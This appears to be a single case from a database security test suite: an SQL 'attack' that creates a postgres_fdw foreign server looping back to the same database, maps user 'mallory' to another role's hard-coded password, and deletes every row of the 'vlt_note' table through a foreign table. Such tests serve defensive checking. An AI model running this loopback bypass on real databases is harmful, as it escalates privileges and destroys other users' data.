-- Makes a server of its own that leads back.
-- wants: write
-- setup:
CALL open_ways_out();
-- attack:
DO $$ BEGIN EXECUTE format('CREATE SERVER back FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host ''127.0.0.1'', port %L, dbname %L)', current_setting('port'), current_database()); END $$;
CREATE USER MAPPING FOR mallory SERVER back OPTIONS (user 'porter', password 'porter');
CREATE FOREIGN TABLE far (id int, body text) SERVER back OPTIONS (schema_name 'public', table_name 'vlt_note');
DELETE FROM far;
